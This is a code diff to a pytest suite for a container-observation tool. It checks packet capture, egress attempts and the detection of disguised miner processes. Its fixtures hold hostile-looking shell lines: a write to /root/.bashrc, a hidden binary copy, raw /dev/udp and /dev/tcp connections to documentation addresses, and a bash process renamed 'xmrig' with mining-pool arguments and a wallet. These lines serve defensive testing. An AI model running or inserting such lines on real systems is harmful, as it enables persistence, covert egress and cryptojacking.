@@ -41,6 +41,7 @@ read -r -t 10 -u 4 && answered=answered
 echo echo started >>/root/.bashrc
 echo in the volume >/data/kept
 cp /bin/cat /tmp/.worker
+echo -n canary-in-a-packet >/dev/udp/203.0.113.9/9
 echo $answered
 """
 
@@ -67,11 +68,15 @@ def options(seconds: float = 30, **more: Any) -> ObserveOptions:
 
 
 @pytest.fixture(scope="module")
-def report(ground: Ground, tmp_path_factory: pytest.TempPathFactory) -> Report:
+def pcap(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("pcap") / "run.pcap"
+
+
+@pytest.fixture(scope="module")
+def report(ground: Ground, pcap: Path) -> Report:
     """A look-alike's run that has to be stopped."""
-    folder = tmp_path_factory.mktemp("pcap")
     command = ["bash", "-c", LOOK_ALIKE + "read -u 4"]
-    return observe(ground.image, command, options(4, episode="e-1", pcap=folder / "run.pcap"))
+    return observe(ground.image, command, options(3, episode="e-1", pcap=pcap))
 
 
 @pytest.mark.engine
@@ -79,8 +84,8 @@ def test_the_run_is_told_whole(report: Report, ground: Ground) -> None:
     run = report.run
     assert run is not None
     assert (run.how, run.subject, run.episode) == (How.OBSERVE, ground.image, "e-1")
-    assert (run.stopped, run.exit_code, run.output) == ("time limit of 4 s", None, b"answered\n")
-    assert 3.5 < run.ended - run.started < 10
+    assert (run.stopped, run.exit_code, run.output) == ("time limit of 3 s", None, b"answered\n")
+    assert 2.5 < run.ended - run.started < 10
     assert run.command[:2] == ("bash", "-c")
     assert report.complete, [n.message for n in report.notifications]
     assert ground.left() == []
@@ -130,52 +135,70 @@ def test_what_ran_is_told_and_what_still_runs_was_looked_at(report: Report) -> N
 
 
 @pytest.mark.engine
-def test_every_packet_is_kept_for_wireshark(ground: Ground, tmp_path: Path) -> None:
-    file = tmp_path / "run.pcap"
-    code = "echo -n canary-in-a-packet >/dev/udp/203.0.113.9/9"
-    found = observe(ground.image, ["bash", "-c", code], options(pcap=file))
-    assert found.run is not None
-    assert (found.run.exit_code, found.run.stopped) == (0, "")
-    assert b"canary-in-a-packet" in file.read_bytes()
+def test_every_packet_is_kept_for_wireshark(report: Report, pcap: Path) -> None:
+    assert pcap.read_bytes()[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1")
+    assert b"canary-in-a-packet" in pcap.read_bytes()
+    assert pcap.stat().st_mode & 0o777 == 0o600
+
+
+WALLET = "4" + "4AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
+COMPOSE = """
+services:
+  agent:
+    image: IMAGE
+    network_mode: none
+    user: "7"
+    environment: {KEY: value}
+    volumes: ["./work:/host:ro"]
+    command:
+      - bash
+      - -c
+      - |
+        id -u; echo $$KEY /host/*
+        exec 3<>/dev/tcp/198.51.100.7/80
+        (exec -a xmrig bash -c 'exit 0' -o stratum+tcp://pool.example.org:3333 -u WALLET -k --coin monero)
+        exit 9
+  other:
+    image: IMAGE
+"""
+
+
+@pytest.fixture(scope="module")
+def launched(ground: Ground, tmp_path_factory: pytest.TempPathFactory) -> tuple[Report, Path]:
+    """A run as its launch says, which ends by itself, and the folder of the launch."""
+    folder = tmp_path_factory.mktemp("launch")
+    file = folder / "compose.yaml"
+    file.write_text(COMPOSE.replace("IMAGE", ground.image).replace("WALLET", WALLET))
+    given = options(launches=(str(file),), egress=EgressOptions(sandboxes=("agent",)), sandbox="agent")
+    return observe(None, (), given), folder
 
 
 @pytest.mark.engine
-def test_a_program_that_has_ended_is_judged_by_its_command_line(ground: Ground) -> None:
-    """A shell under another name, with words that it takes for its own and never acts upon."""
-    wallet = "4" + "4AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
-    code = f"(exec -a xmrig bash -c 'exit 0' -o stratum+tcp://pool.example.org:3333 -u {wallet} -k --coin monero); :"
-    found = observe(ground.image, ["bash", "-c", code], options())
+def test_a_launch_is_run_as_it_says_less_what_would_let_it_out(launched: tuple[Report, Path]) -> None:
+    found, folder = launched
     assert found.run is not None
-    assert [p.command[0] for p in found.run.processes] == ["bash", "xmrig"]
-    assert found.run.stopped == ""
-    print([(f.rule_id, f.message) for f in found.findings])
-    assert found.findings_of("live/miner-process")
-
-
-@pytest.mark.engine
-def test_a_launch_is_run_as_it_says_and_joined_with_what_it_lets_through(ground: Ground, tmp_path: Path) -> None:
-    file = tmp_path / "compose.yaml"
-    file.write_text(
-        "services:\n"
-        "  agent:\n"
-        f"    image: {ground.image}\n"
-        "    network_mode: none\n"
-        "    user: '7'\n"
-        "    environment: {KEY: value}\n"
-        "    volumes: ['./work:/host:ro']\n"
-        "    command: [bash, -c, 'id -u; echo $$KEY /host/*; exec 3<>/dev/tcp/198.51.100.7/80']\n"
-        f"  other:\n    image: {ground.image}\n"
-    )
-    given = options(launches=(str(file),), egress=EgressOptions(), sandbox="agent")
-    found = observe(None, (), given)
-    assert found.run is not None
-    assert found.run.output == b"7\nvalue /host/*\n"
+    assert (found.run.output, found.run.exit_code, found.run.stopped) == (b"7\nvalue /host/*\n", 9, "")
     withheld = {w.what for w in found.run.withheld}
-    assert {"capability NET_RAW", f"host path {tmp_path}/work at /host"} <= withheld
-    assert found.egress is not None
-    [agent] = [s for s in found.egress.sandboxes if s.name == "agent"]
+    assert {"capability NET_RAW", f"host path {folder}/work at /host"} <= withheld
+    assert found.complete, [n.message for n in found.notifications]
+
+
+@pytest.mark.engine
+def test_what_it_tried_is_joined_with_what_the_launch_lets_through(launched: tuple[Report, Path]) -> None:
+    assert launched[0].egress is not None
+    [agent] = launched[0].egress.sandboxes
     [tried] = agent.answer(Destination.INTERNET).tried or ()
     assert (tried.target, tried.outcome) == ("198.51.100.7:80", "closed")
+
+
+@pytest.mark.engine
+def test_a_program_that_has_ended_is_judged_by_its_command_line(launched: tuple[Report, Path]) -> None:
+    """A shell under a miner's name, with a miner's words, that ends at once."""
+    run = launched[0].run
+    assert run is not None
+    assert "xmrig" in [p.command[0] for p in run.processes]
+    [finding] = launched[0].findings_of("live/miner-process")
+    assert "pool.example.org:3333" in finding.message
 
 
 @pytest.mark.engine
